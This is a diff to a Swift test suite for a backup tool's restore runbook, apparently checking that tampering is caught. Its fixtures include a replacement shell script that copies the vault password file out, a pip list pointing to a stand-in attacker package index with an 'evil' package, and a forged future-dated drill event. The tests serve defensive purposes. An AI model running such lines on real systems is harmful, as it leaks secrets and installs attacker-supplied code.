@@ -2,6 +2,7 @@ import DrillCore
 import Foundation
 import TestSupport
 import Testing
+import Vault
 
 /// Issue 19: `restore-drill runbook` and the runbook the schedule keeps, followed literally on a
 /// fake new machine.
@@ -172,10 +173,21 @@ struct RunbookTests {
 
         let machine = try NewMachine()
         defer { try? FileManager.default.removeItem(atPath: machine.base) }
+        // A new machine's home is never empty.
+        for folder in ["Library/Preferences", "Desktop"] {
+            try FileManager.default.createDirectory(
+                atPath: machine.home + "/" + folder, withIntermediateDirectories: true)
+        }
+        try Data("mine\n".utf8).write(to: URL(fileURLWithPath: machine.home + "/Desktop/todo.txt"))
         let lines = Self.commands(markdown)
         let run = try machine.run(lines, exitOnError: true, environment: Self.password)
         #expect(run.status == 0, "\(run.output)\n\(run.error)\n\(markdown)")
-        #expect(run.output.contains("ok"), "integrity_check prints ok: \(run.output)")
+        #expect(run.output.contains("ok: "), "integrity_check prints ok: \(run.output)")
+        #expect(!run.output.contains("DAMAGED"), "\(run.output)")
+        #expect(run.output.contains("manifest.json: OK"), "the copy is checked: \(run.output)")
+        #expect(
+            (try? String(contentsOfFile: machine.home + "/Desktop/todo.txt", encoding: .utf8)) == "mine\n",
+            "what the set does not hold is left alone")
         #expect(
             (try? String(contentsOfFile: machine.home + "/git/maia/notes.txt", encoding: .utf8)) == "hello\n")
         #expect(machine.calls("brew") == [["install", "git"], ["install", "sqlite"]])
@@ -186,6 +198,178 @@ struct RunbookTests {
         let pip = machine.calls("pip3")
         #expect(pip.count == 1 && pip.first?.prefix(2) == ["install", "-r"])
         #expect(!FileManager.default.fileExists(atPath: machine.work + "/pwned"))
+
+        // Someone who can write to the synced folder replaces the script after the runbook was
+        // made: step 2 stops before the password is written or the script runs.
+        let set = try #require(
+            try FileManager.default.contentsOfDirectory(atPath: copy).first { $0.hasPrefix("full_") })
+        let second = try NewMachine()
+        defer { try? FileManager.default.removeItem(atPath: second.base) }
+        let script = try #require(
+            try FileManager.default.contentsOfDirectory(atPath: "\(copy)/\(set)").first { $0.hasSuffix(".sh") })
+        try Data("#!/bin/sh\ncat ./vault-password > '\(second.base)/STOLEN'\n".utf8).write(
+            to: URL(fileURLWithPath: "\(copy)/\(set)/\(script)"))
+        let stopped = try second.run(lines, exitOnError: true, environment: Self.password)
+        #expect(stopped.status != 0)
+        #expect(stopped.output.contains("\(script): FAILED"), "\(stopped.output)\n\(stopped.error)")
+        #expect(!FileManager.default.fileExists(atPath: second.base + "/STOLEN"))
+        #expect(!FileManager.default.fileExists(atPath: second.work + "/vault-password"))
+    }
+
+    /// The history in the destination is anyone's to write: an event dropped there that claims a
+    /// passing drill (dated in the future, so it would also hide later failures) makes no set look
+    /// proven to the runbook, and `compat` leaves it out of the matrix.
+    @Test(.needsTool("sqlite3", package: "sqlite3"))
+    func aForgedPassingEventInTheHistoryProvesNothing() throws {
+        let ws = try Self.workspace("runbook-forged", format: 1)
+        defer { ws.remove() }
+        try #require(try ws.run(["backup"], environment: Self.password).status == 0)
+        let drill = try ws.run(["drill", "--json"], environment: Self.password)
+        try #require(drill.status == 0, "\(drill.stderr)")
+        let first = try Tool.drillReport(drill.stdout)
+        let proven = try #require(first.backupID?.description)
+        Thread.sleep(forTimeInterval: 1.1)
+        try ws.write("notes.txt", "changed\n")
+        try #require(try ws.run(["backup"], environment: Self.password).status == 0)
+        let sets = try FileManager.default.contentsOfDirectory(atPath: ws.base + "/backups").filter {
+            $0.hasPrefix("full_")
+        }.sorted()
+        let newest = try #require(sets.last)
+        try #require(newest != proven)
+
+        let events = ws.base + "/backups/.restore-drill/events"
+        let real = try #require(
+            try FileManager.default.contentsOfDirectory(atPath: events).first { $0.contains("-drill-") })
+        var forged = try String(contentsOfFile: "\(events)/\(real)", encoding: .utf8)
+        forged = forged.replacingOccurrences(of: proven, with: newest)
+        forged = forged.replacingOccurrences(of: first.drillID.description, with: "drill_20991231_000000")
+        forged = forged.replacingOccurrences(
+            of: #""time" : "[^"]*""#, with: #""time" : "2099-12-31T00:00:01.000Z""#, options: .regularExpression)
+        forged = forged.replacingOccurrences(
+            of: #""id" : "[^"]*""#, with: #""id" : "20991231T000001.000Z-drill-0badc0de""#, options: .regularExpression)
+        // Unchained, as a file dropped into a synced folder is.
+        forged = forged.replacingOccurrences(of: #"\n *"(seq|prev)" : [^\n]*"#, with: "", options: .regularExpression)
+        try Data(forged.utf8).write(
+            to: URL(fileURLWithPath: "\(events)/20991231T000001.000Z-drill-0badc0de.json"))
+
+        let made = try ws.run(["runbook"], environment: Self.password)
+        try #require(made.status == 0, "\(made.stderr)")
+        let top = made.stdout.split(separator: "\n").first.map(String.init) ?? ""
+        #expect(
+            top == "# WARNING: this set has never passed a drill (the newest set that passed one is \(proven): "
+                + "restore-drill runbook \(proven))", "\(made.stdout.prefix(400))")
+        #expect(!made.stdout.contains("drill_20991231_000000"))
+
+        let compat = try ws.run(["compat", "--json"], environment: Self.password)
+        try #require(compat.status == 0, "\(compat.stderr)")
+        let matrix = try JSONSerialization.jsonObject(with: Data(compat.stdout.utf8)) as? [String: Any]
+        #expect(matrix?["unvouched"] as? Int == 1, "\(compat.stdout)")
+        let combinations = matrix?["combinations"] as? [[String: Any]] ?? []
+        #expect(combinations.count == 1 && combinations.first?["drills"] as? Int == 1, "\(compat.stdout)")
+        let text = try ws.run(["compat"], environment: Self.password)
+        #expect(text.stdout.contains("1 drill event in the history not shown"), "\(text.stdout)")
+    }
+
+    /// A password written into the configuration as a command's argument never reaches the
+    /// runbook; a dependency list that no longer matches the manifest is not installed; OUT never
+    /// replaces a person's file, `-` is stdout, `.html` picks HTML, and a lone name that is no
+    /// backup id is refused with a hint.
+    @Test(.needsTool("sqlite3", package: "sqlite3"))
+    func secretsListsAndOutputFiles() throws {
+        let ws = try Self.workspace("runbook-out")
+        defer { ws.remove() }
+        let secret = Self.password["RD_RUNBOOK_PW"]!
+        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
+        config = config.replacingOccurrences(
+            of: "password: {env: RD_RUNBOOK_PW}", with: "password: {command: [/usr/bin/printf, '%s', '\(secret)']}")
+        try Data(config.utf8).write(to: URL(fileURLWithPath: ws.config))
+        try #require(try ws.run(["backup"]).status == 0)
+        let before = try ws.run(["runbook", "-"])
+        try #require(before.status == 0, "\(before.stderr)")
+        #expect(!before.stdout.contains(secret))
+        #expect(before.stdout.contains(SecretScrubber.redaction), "\(before.stdout)")
+        let pip = try #require(
+            before.stdout.split(separator: "\n").first { $0.hasPrefix("pip3 install -r ") }.map(String.init))
+        // The python list's object is replaced in the destination.
+        let object = try #require(pip.split(separator: "'").dropFirst().first.map(String.init))
+        let stored = ws.base + "/backups/" + object.replacingOccurrences(of: "./restore-set/", with: "")
+        try Data("--extra-index-url http://attacker.invalid/simple\nevil==1.0\n".utf8).write(
+            to: URL(fileURLWithPath: stored))
+        let after = try ws.run(["runbook"])
+        try #require(after.status == 0, "\(after.stderr)")
+        #expect(!after.stdout.contains("pip3 install"), "\(after.stdout)")
+        #expect(after.stdout.contains("# the python list could not be read or does not match the manifest"))
+
+        let mine = ws.base + "/mine.md"
+        try Data("NOTES\n".utf8).write(to: URL(fileURLWithPath: mine))
+        let refused = try ws.run(["runbook", mine])
+        #expect(refused.status == 2, "\(refused.stderr)")
+        #expect(refused.stderr.contains("is not a runbook restore-drill wrote"), "\(refused.stderr)")
+        #expect((try String(contentsOfFile: mine, encoding: .utf8)) == "NOTES\n")
+        let own = ws.base + "/out.md"
+        #expect(try ws.run(["runbook", own]).status == 0)
+        let replaced = try ws.run(["runbook", own])
+        #expect(replaced.status == 0, "a runbook this tool wrote is replaced: \(replaced.stderr)")
+        let page = ws.base + "/page.html"
+        #expect(try ws.run(["runbook", page]).status == 0)
+        #expect((try String(contentsOfFile: page, encoding: .utf8)).hasPrefix("<!DOCTYPE html>"))
+        let notAnID = try ws.run(["runbook", "full_2026120"])
+        #expect(notAnID.status == 2)
+        #expect(notAnID.stderr.contains("give ./full_2026120"), "\(notAnID.stderr)")
+        let noFolder = try ws.run(["runbook", ws.base + "/nope/rb.md"])
+        #expect(noFolder.status == 3)
+        #expect(noFolder.stderr.contains("its folder \(ws.base)/nope does not exist"), "\(noFolder.stderr)")
+    }
+
+    /// A set no vault password authenticates says so at the top of its runbook.
+    @Test func anUnauthenticatedSetIsWarnedAbout() throws {
+        let ws = try SmallWorkspace.make("runbook-plain")
+        defer { ws.remove() }
+        try ws.write("notes.txt", "hello\n")
+        try #require(try ws.run(["backup"]).status == 0)
+        let made = try ws.run(["runbook"])
+        try #require(made.status == 0, "\(made.stderr)")
+        let headings = made.stdout.split(separator: "\n").filter { $0.hasPrefix("# WARNING") }
+        #expect(
+            headings == [
+                "# WARNING: this set has never passed a drill",
+                "# WARNING: this set is not authenticated: no vault password was available to check its manifest, "
+                    + "so anyone who can write to the destination could have replaced it",
+            ], "\(made.stdout.prefix(600))")
+    }
+
+    /// The runbook the schedule keeps is never made without the configured password: when the
+    /// password command fails after the drill, no RUNBOOK.md is written (a runbook made then
+    /// could name a set nobody authenticated).
+    @Test(.needsTool("sqlite3", package: "sqlite3"))
+    func noRunbookIsKeptWhenThePasswordCannotBeHad() throws {
+        let ws = try Self.workspace("runbook-closed", format: 1)
+        defer { ws.remove() }
+        let counter = ws.base + "/calls"
+        let command = ws.base + "/password.sh"
+        try Data(
+            """
+            #!/bin/sh
+            n=$(cat '\(counter)' 2>/dev/null || echo 0); n=$((n + 1)); echo "$n" > '\(counter)'
+            [ "$n" -le "${RD_CALLS_ALLOWED:-99}" ] || exit 1
+            printf '%s' 'correct horse battery staple'
+
+            """.utf8
+        ).write(to: URL(fileURLWithPath: command))
+        chmod(command, 0o755)
+        var config = try String(contentsOfFile: ws.config, encoding: .utf8)
+        config = config.replacingOccurrences(
+            of: "password: {env: RD_RUNBOOK_PW}", with: "password: {command: [\(command)]}")
+        try Data(config.utf8).write(to: URL(fileURLWithPath: ws.config))
+        try #require(try ws.run(["backup"]).status == 0)
+        try? FileManager.default.removeItem(atPath: counter)
+        let drill = try ws.run(["drill"], environment: ["RD_CALLS_ALLOWED": "1"])
+        #expect(drill.status == 0, "\(drill.stderr)")
+        #expect(drill.stderr.contains("runbook not written: the vault password could not be had"), "\(drill.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: ws.base + "/reports/RUNBOOK.md"))
+        let again = try ws.run(["drill"])
+        #expect(again.status == 0, "\(again.stderr)")
+        #expect(FileManager.default.fileExists(atPath: ws.base + "/reports/RUNBOOK.md"))
     }
 
     /// The schedule's runbook is also kept beside the sets on each off-site remote, and its rclone
